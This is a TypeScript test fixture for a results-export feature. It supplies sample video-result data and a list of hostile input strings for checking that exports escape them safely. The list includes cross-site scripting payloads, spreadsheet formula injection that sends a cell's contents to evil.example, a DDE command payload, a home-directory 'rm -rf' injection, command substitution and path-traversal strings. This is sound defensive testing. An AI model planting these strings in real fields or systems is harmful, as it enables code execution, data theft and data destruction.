// Results to export, with the least that a test must give.
import type { ExportedResult, ResultFacts } from '../../src/results/export/exportedResult';
import { ref } from './makers';

/** Texts and names that try to be more than text. */
export const hostileTexts = [
	`<script>document.title='ran'</script>`,
	`"><img src=x onerror="document.title='ran'">`,
	`' onmouseover='document.title=1`,
	'</style></head><base href="https://evil.example/">',
	'&lt;b&gt; &amp;#60; <!-- -->]]>',
	'=HYPERLINK("https://evil.example?"&A1,"Fox")',
	"+1+cmd|' /C calc'!A0",
	'-2+3',
	'@SUM(1)',
	'\t=1',
	'\r=1',
	'a;=1\tb\n=2',
	'“quoted”, "comma", line\r\nbreak',
	'\u202egpj.exe\u2066\u200f',
	'\u0000\u0007\u001b[31mred',
	'lone \ud800 surrogate \udc00',
	"'; rm -rf ~; '",
	"it's 'quoted' \\' $(id) `id` %PATH% {a,b}",
	'../../etc/passwd',
	'C:\\Windows\\con',
	'CON',
	'file:///etc/passwd',
	'javascript:alert(1)',
	'#?%2e%00&.',
	' . ',
	'',
	'狐狸在雪地里 🦊 شمال',
] as const;

export function resultFacts(own: Partial<ResultFacts> = {}): ResultFacts {
	return {
		ref: ref('853000000000000001'),
		media: 0,
		name: 'Fox',
		prompt: 'A fox in the snow',
		format: 'mp4',
		size: 1_234_567,
		sha256: 'ab'.repeat(32),
		createdAt: Date.UTC(2026, 10, 3, 8),
		finishedAt: Date.UTC(2026, 10, 3, 8, 20),
		units: '3.5',
		file: { width: 1920, height: 1080, framesPerSecond: 24, seconds: 5.1 },
		text: { title: 'Fox', facts: ['Text to Video', 'Nov 3, 2026', '1.2 MB'] },
		...own,
	};
}

export function exportedResult(own: Partial<ExportedResult> = {}): ExportedResult {
	return { ...resultFacts(own), fileName: 'fox-1.mp4', ...own };
}
